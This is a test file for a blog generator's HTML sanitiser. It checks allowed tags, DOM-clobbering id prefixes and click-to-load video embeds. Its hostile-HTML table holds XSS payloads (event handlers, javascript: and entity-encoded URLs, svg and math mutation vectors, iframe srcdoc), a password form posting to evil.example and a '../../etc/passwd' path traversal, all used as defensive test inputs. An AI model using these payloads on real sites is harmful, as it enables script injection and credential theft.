/**
 * The safe subset of raw HTML, through both paths a post is rendered by (the build's HTML and
 * react-markdown after a client-side navigation): what authors write works as HTML, everything
 * else is inert, ids cannot clobber the page, and video links become click-to-load embeds.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { DEFAULT_MARKDOWN_LIMITS } from '../../src/build/analyse-markdown';
import { processMarkdown } from '../../src/build/process-markdown';
import { formatProblem } from '../../src/build/problems';
import { renderHtml } from '../../src/build/render-html';
import { feedComponents } from '../../src/markdown/feed-components';
import { createProcessor } from '../../src/markdown/pipeline';
import { buildHighlighter } from '../../src/build/languages';
import { inertProblems } from '../build/inert-markup';
import { removeRenderedPaths, renderBothPaths } from './render-paths';

afterEach(removeRenderedPaths);

describe('the harmless elements authors write work as HTML', () => {
  it.each([
    ['details and summary', '<details><summary>More</summary>\n\nHidden *words*\n\n</details>', 'details > summary', 'More'],
    ['details open', '<details open><summary>Open</summary>Body</details>', 'details[open] > summary', 'Open'],
    ['kbd', 'Press <kbd>Ctrl</kbd>+<kbd>C</kbd>.', 'p > kbd', 'Ctrl'],
    ['sub', 'H<sub>2</sub>O', 'p > sub', '2'],
    ['sup', 'x<sup>2</sup>', 'p > sup', '2'],
    ['mark', 'a <mark>marked</mark> word', 'p > mark', 'marked'],
    ['abbr with its title', '<abbr title="Out Of Memory">OOM</abbr> killer', 'abbr[title="Out Of Memory"]', 'OOM'],
    ['ins', 'a <ins>new</ins> word', 'p > ins', 'new'],
    ['del', 'an <del>old</del> word', 'p > del', 'old'],
    [
      'figure and figcaption',
      '<figure>\n\n![chart](https://example.org/a.png)\n\n<figcaption>The chart</figcaption></figure>',
      'figure > figcaption',
      'The chart',
    ],
    ['br', 'one<br>two', 'p > br', ''],
  ])('%s', (_name, markdown, selector, text) => {
    for (const [where, container] of renderBothPaths(markdown)) {
      expect(inertProblems(container), where).toEqual([]);
      expect(container.querySelector(selector), `${where}: ${selector}`).not.toBeNull();
      expect(container.querySelector(selector)?.textContent, where).toBe(text);
    }
  });

  it('keeps an <img>’s width and height, resolves its local src and loads it lazily', () => {
    // A post's first image loads at once (it is often the largest paint); this is the second.
    for (const [where, container] of renderBothPaths('![lead](lead.svg)\n\n<img src="diagram.png" alt="A diagram" width="320" height="200">')) {
      const image = container.querySelectorAll('img')[1]!;
      expect(
        [image.getAttribute('src'), image.getAttribute('alt'), image.getAttribute('width'), image.getAttribute('height'), image.getAttribute('loading')],
        where,
      ).toEqual(['/media/posts/x/diagram.png', 'A diagram', '320', '200', 'lazy']);
    }
  });

  it.each([
    ['video with a file beside the post', '<video src="clip.mp4" width="640"></video>', 'video', '/media/posts/x/clip.mp4'],
    ['audio with a file beside the post', '<audio src="./talk.ogg"></audio>', 'audio', '/media/posts/x/talk.ogg'],
    [
      'video with a source element',
      '<video>\n<source src="clip.webm" type="video/webm">\n</video>',
      'video source[type="video/webm"]',
      '/media/posts/x/clip.webm',
    ],
  ])('%s plays with controls, never by itself', (_name, markdown, selector, src) => {
    for (const [where, container] of renderBothPaths(markdown)) {
      expect(container.querySelector(selector)?.getAttribute('src'), where).toBe(src);
      const media = container.querySelector('video, audio')!;
      expect(media.hasAttribute('controls'), where).toBe(true);
      expect(media.getAttribute('preload'), where).toBe('metadata');
    }
  });
});

describe('hostile raw HTML is inert, inside allowed elements too', () => {
  it.each([
    ['an event handler on details', '<details open ontoggle="alert(1)"><summary onclick="alert(2)">x</summary>y</details>', 'details'],
    ['an event handler on kbd', '<kbd onmouseover="alert(1)">K</kbd>', 'kbd'],
    ['an event handler on img', '<img src="https://example.org/a.png" onerror="alert(1)" onload="alert(2)">', 'img'],
    ['javascript: in an img src', '<img src="javascript:alert(1)">', 'img'],
    ['javascript: in a link', '<a href="javascript:alert(1)">click</a>', ''],
    ['an entity-encoded javascript: link', '<a href="&#106;avascript:alert(1)">click</a>', ''],
    ['javascript: in a video src', '<video src="javascript:alert(1)" controls></video>', 'video'],
    ['autoplay and handlers on video', '<video src="clip.mp4" autoplay onplay="alert(1)" poster="https://evil.example/p.png"></video>', 'video'],
    ['a style attribute', '<mark style="background:url(https://evil.example/x)">m</mark>', 'mark'],
    ['a style element', '<style>body { display: none }</style>', ''],
    [
      'a form',
      '<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example">Go</button></form>',
      '',
    ],
    [
      'an svg inside details',
      '<details><summary>s</summary><svg><script>alert(1)</script><a href="javascript:alert(2)"><text>x</text></a></svg></details>',
      'details',
    ],
    ['math with a nested style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', ''],
    ['an iframe from another host', '<iframe src="https://evil.example/"></iframe>', ''],
    ['an iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
    ['a video from another host', '<video src="https://evil.example/a.mp4" controls></video>', 'video'],
    ['a remote http image', '<img src="http://evil.example/a.png">', 'img'],
    ['a picture source set', '<picture><source srcset="https://evil.example/a.png"><img src="a.png"></picture>', 'img'],
  ])('%s', (_name, markdown, kept) => {
    for (const [where, container] of renderBothPaths(markdown)) {
      expect(inertProblems(container, ['https']), where).toEqual([]);
      expect(
        container.querySelector('script, style, iframe, object, embed, form, input, svg, math, [style], [srcset], [poster], [autoplay]'),
        where,
      ).toBeNull();
      for (const element of container.querySelectorAll('[src]')) {
        const src = element.getAttribute('src')!;
        // Nothing from another host but https images.
        if (!src.startsWith('/media/')) expect(`${element.tagName} ${src}`, where).toMatch(/^IMG https:\/\/example\.org\//);
      }
      if (kept) expect(container.querySelector(kept), `${where}: keeps the <${kept}>`).not.toBeNull();
    }
  });

  it('keeps the words of a link whose URL was unsafe, without a link', () => {
    for (const [where, container] of renderBothPaths('<a href="javascript:alert(1)">click me</a>')) {
      expect(container.querySelector('a'), where).toBeNull();
      expect(container.querySelector('.blocked-link')?.textContent, where).toBe('click me');
    }
  });
});

describe('ids from posts cannot clobber the page or its globals', () => {
  it.each([
    ['an id on a span', '<span id="main">x</span>', 'span', 'id', 'user-content-main'],
    ['an id on an img', '<img id="root" src="https://example.org/a.png">', 'img', 'id', 'user-content-root'],
    ['a name on an img', '<img name="cookie" src="https://example.org/a.png">', 'img', 'name', 'user-content-cookie'],
    ['a name on a link', '<a name="location">here</a>', 'a', 'name', 'user-content-location'],
    ['an id on a heading', '<h2 id="quire-state">x</h2>', 'h2', 'id', 'user-content-quire-state'],
  ])('%s gets the user-content- prefix', (_name, markdown, selector, attribute, value) => {
    for (const [where, container] of renderBothPaths(markdown)) {
      expect(container.querySelector(selector)?.getAttribute(attribute), where).toBe(value);
    }
    expect(document.getElementById('main')).toBeNull();
    expect(typeof document.cookie).toBe('string');
  });

  it.each([
    ['Main', 'section-main'],
    ['Root', 'section-root'],
    ['process', 'section-process'],
    ['card-my-post', 'section-card-my-post'],
    ['user-content-fn-1', 'section-user-content-fn-1'],
    ['Main memory', 'main-memory'],
    ['Swap settings', 'swap-settings'],
  ])('a heading "%s" gets the id %s', (heading, id) => {
    for (const [where, container] of renderBothPaths(`## ${heading}`)) {
      expect(container.querySelector('h2')?.id, where).toBe(id);
      expect(container.querySelector('h2 a.anchor')?.getAttribute('href'), where).toBe(`#${id}`);
    }
  });

  it('links footnote calls and back links to their prefixed targets', () => {
    for (const [where, container] of renderBothPaths('Text[^a].\n\n[^a]: The note.')) {
      const call = container.querySelector('a[data-footnote-ref]')!;
      // By attribute: jsdom answers `#id` from the document, where the other rendering has the same ids.
      const byId = (href: string | null) => container.querySelector(`[id="${href?.slice(1)}"]`);
      const target = byId(call.getAttribute('href'));
      expect(target?.textContent, where).toContain('The note.');
      const back = container.querySelector('a[data-footnote-backref]')!;
      expect(byId(back.getAttribute('href')), where).toBe(call);
    }
  });
});

const YOUTUBE = 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ';

describe('video links and iframes become click-to-load embeds', () => {
  it.each([
    ['a bare youtube.com/watch link', 'https://www.youtube.com/watch?v=dQw4w9WgXcQ', YOUTUBE, 'Play video'],
    ['a youtu.be link with its words', '[The talk](https://youtu.be/dQw4w9WgXcQ)', YOUTUBE, 'Play video: The talk'],
    ['a youtube.com/embed link', '<https://www.youtube.com/embed/dQw4w9WgXcQ>', YOUTUBE, 'Play video'],
    ['a shorts link', 'https://youtube.com/shorts/dQw4w9WgXcQ', YOUTUBE, 'Play video'],
    ['a vimeo.com link', '[Keynote](https://vimeo.com/76979871)', 'https://player.vimeo.com/video/76979871?dnt=1', 'Play video: Keynote'],
    ['a player.vimeo.com link', 'https://player.vimeo.com/video/76979871', 'https://player.vimeo.com/video/76979871?dnt=1', 'Play video'],
    [
      'a YouTube iframe with a title',
      '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=x" title="Never gonna" allowfullscreen></iframe>',
      YOUTUBE,
      'Play video: Never gonna',
    ],
    ['a youtube-nocookie iframe', '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>', YOUTUBE, 'Play video'],
    [
      'a Vimeo iframe in a div',
      '<div>\n<iframe src="https://player.vimeo.com/video/76979871?h=abc" title="Keynote"></iframe>\n</div>',
      'https://player.vimeo.com/video/76979871?dnt=1',
      'Play video: Keynote',
    ],
  ])('%s', (_name, markdown, src, label) => {
    for (const [where, container] of renderBothPaths(markdown)) {
      const figure = container.querySelector('figure.embed');
      expect(figure?.getAttribute('data-embed-src'), where).toBe(src);
      expect(figure?.querySelector('button.embed-play')?.textContent, where).toBe(label);
      expect(figure?.querySelector('button')?.getAttribute('type'), where).toBe('button');
      // Nothing in the markup loads from the video host before the click.
      expect(container.querySelector('iframe, img, [src]'), where).toBeNull();
      expect(figure?.querySelector('figcaption a')?.getAttribute('href'), where).toMatch(
        /^https:\/\/(www\.youtube\.com\/watch\?v=dQw4w9WgXcQ|vimeo\.com\/76979871)$/,
      );
    }
  });

  it.each([
    ['a video link inside a sentence', 'See https://youtu.be/dQw4w9WgXcQ for the talk.'],
    ['a link to another host with a video path', 'https://evil.example/watch?v=dQw4w9WgXcQ'],
    ['a YouTube link that is not a video', 'https://www.youtube.com/channel/UC123'],
    ['a lookalike host', 'https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ'],
    ['hand-written embed markup', '<figure class="embed" data-embed-src="https://evil.example/"><button class="embed-play">Play</button></figure>'],
  ])('%s stays what it is', (_name, markdown) => {
    for (const [where, container] of renderBothPaths(markdown)) {
      expect(container.querySelector('figure.embed, [data-embed-src], button'), where).toBeNull();
    }
  });

  it('gives feeds a plain link to the video', () => {
    const processor = createProcessor({ base: '/', assetBase: 'media/posts/x/', images: {}, highlighter: buildHighlighter });
    const markdown = '[The talk](https://youtu.be/dQw4w9WgXcQ)\n\nhttps://vimeo.com/76979871';
    const html = renderHtml(processor.runSync(processor.parse(markdown)), feedComponents('https://blog.example'));
    expect(html).toBe('<p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">The talk</a></p>\n<p><a href="https://vimeo.com/76979871">Vimeo video</a></p>');
  });
});

describe('the build checks raw HTML and says what it left out', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'quire-raw-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  mkdirSync(path.join(dir, 'posts'));
  writeFileSync(path.join(dir, 'posts', 'here.png'), Buffer.from('89504e470d0a1a0a0000000d4948445200000010000000080806000000', 'hex'));
  const run = (body: string) =>
    processMarkdown({
      path: path.join(dir, 'posts', 'x.md'),
      file: 'posts/x.md',
      contentDir: dir,
      body,
      bodyLine: 5,
      base: '/',
      assetBase: 'media/posts/',
      limits: DEFAULT_MARKDOWN_LIMITS,
    });

  it.each([
    [
      'an img src that does not exist',
      'Text\n\nA <img src="missing.png"> b',
      'posts/x.md:7:3: image: expected an image at "missing.png" beside the post, got nothing there',
    ],
    [
      'a video src outside the content folder',
      '<video controls\n  src="../../etc/passwd"></video>',
      'posts/x.md:5:1: media: expected a path inside the content folder, got "../../etc/passwd"',
    ],
    [
      'a source on its own line',
      '<video controls>\n<source src="gone.webm">\n</video>',
      'posts/x.md:6:1: media: expected a file at "gone.webm" beside the post, got nothing there',
    ],
    [
      'an iframe from another host',
      'Intro\n\n<iframe src="https://evil.example/x"></iframe>',
      'posts/x.md:7:1: left out an <iframe> from "https://evil.example/x": only YouTube and Vimeo videos can be embedded',
    ],
  ])('%s is a warning with its place', (_name, body, warning) => {
    const result = run(body);
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    expect(result.output.warnings.map(formatProblem)).toEqual([warning]);
  });

  it('measures a raw img beside the post that has no size written on it, and has no warning', () => {
    const result = run('<img src="here.png" alt="x">');
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    expect(result.output.warnings).toEqual([]);
    expect(result.output.images).toMatchObject({ 'here.png': { width: 16, height: 8 } });
    expect(result.output.html).toMatch(/<img(?=[^>]* src="\/media\/posts\/here\.png")(?=[^>]* width="16")(?=[^>]* height="8")/);
  });
});
